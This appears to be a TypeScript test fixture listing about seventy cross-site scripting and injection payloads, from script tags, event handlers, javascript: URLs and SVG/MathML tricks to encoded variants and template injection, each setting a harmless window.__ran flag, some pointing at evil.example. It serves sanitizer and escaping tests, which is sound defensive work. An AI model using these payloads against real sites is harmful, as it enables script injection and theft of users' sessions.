/** What sets this has run where it should have been read. */
export const MARKUP_ALARM = '__ran';
const run = `window.${MARKUP_ALARM}=1`;

/** Texts that would run, or make something of themselves, in a page that took them for HTML, for a script, for a style or for an address. */
export const markupPayloads: readonly string[] = [
  `<script>${run}</script>`, `</script><script>${run}</script>`, `<ScRiPt>${run}</sCrIpT>`, `<script src=data:text/javascript,${run}></script>`, `<script\n>${run}</script\n>`,
  `<img src=x onerror=${run}>`, `<img src=x onerror="${run}">`, `<IMG SRC=x OnErRoR=${run}>`, `<img/src/onerror=${run}>`, `"><img src=x onerror=${run}>`, `'><img src=x onerror=${run}>`,
  `<img src="x" onerror="eval(atob('d2luZG93Ll9fcmFuPTE='))">`, `<image src=x onerror=${run}>`, `<svg onload=${run}>`, `<svg/onload=${run}>`, `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`, `<svg><a href="javascript:${run}"><text>x</text></a></svg>`, `<svg><style><img src=x onerror=${run}></style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`, `<math href="javascript:${run}">x</math>`, `<body onload=${run}>`, `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.${MARKUP_ALARM}=1</script>"></iframe>`, `<object data="javascript:${run}"></object>`, `<embed src="javascript:${run}">`, `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`, `<link rel=stylesheet href="https://evil.example/x.css">`, `<style>*{display:none}</style>`, `<style>@import 'https://evil.example'</style>`,
  `<div style="background:url(javascript:${run})">`, `<a href="javascript:${run}">x</a>`, `<a href=" javascript:${run}">x</a>`, `<a href="jav&#x09;ascript:${run}">x</a>`, `<form action="javascript:${run}"><button>x</button></form>`,
  `<button formaction="javascript:${run}">x</button>`, `<input autofocus onfocus=${run}>`, `<select autofocus onfocus=${run}>`, `<textarea autofocus onfocus=${run}>`, `</textarea><script>${run}</script>`,
  `</title><script>${run}</script>`, `<video><source onerror=${run}></video>`, `<audio src=x onerror=${run}>`, `<details open ontoggle=${run}>`, `<marquee onstart=${run}>`, `<keygen autofocus onfocus=${run}>`,
  `<x onclick=${run} tabindex=0>`, `<template><img src=x onerror=${run}></template>`, `<noscript><p title="</noscript><img src=x onerror=${run}>">`, `<!--><img src=x onerror=${run}>-->`, `<![CDATA[<img src=x onerror=${run}>]]>`,
  `<?xml version="1.0"?><x onload=${run}/>`, `<%00script>${run}</script>`, `&lt;script&gt;${run}&lt;/script&gt;`, `&#60;script&#62;${run}&#60;/script&#62;`, `\\u003cscript\\u003e${run}\\u003c/script\\u003e`, `%3Cscript%3E${run}%3C/script%3E`,
  `javascript:${run}`, `';${run};//`, `";${run};//`, `\`;${run};//`, `\${${run}}`, `{{constructor.constructor('${run}')()}}`, `<b>درشت</b> و <a href="https://evil.example">پیوند</a>`, `https://evil.example/?<script>${run}</script>`,
  `<script>${run}<!--`, `]]></script><script>${run}</script>`, `<div data-x="</div><script>${run}</script>">`, `<p dir=ltr onmouseover=${run}>فارسی</p>`,
];
